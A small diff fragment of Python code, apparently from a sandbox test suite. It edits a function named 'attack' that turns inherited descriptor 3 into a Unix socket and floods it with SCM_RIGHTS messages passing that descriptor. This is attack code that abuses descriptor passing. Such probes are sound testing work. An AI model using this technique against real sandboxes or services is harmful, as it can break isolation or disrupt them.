@@ -18,7 +18,7 @@ def breach(detail):
 
 def attack(observation):
     import array, os, socket
-    channel = socket.socket(fileno=os.dup(3))
+    channel = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET, 0, 3)
     for _ in range(8):
         try: channel.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [3]))], socket.MSG_DONTWAIT)
         except OSError: break
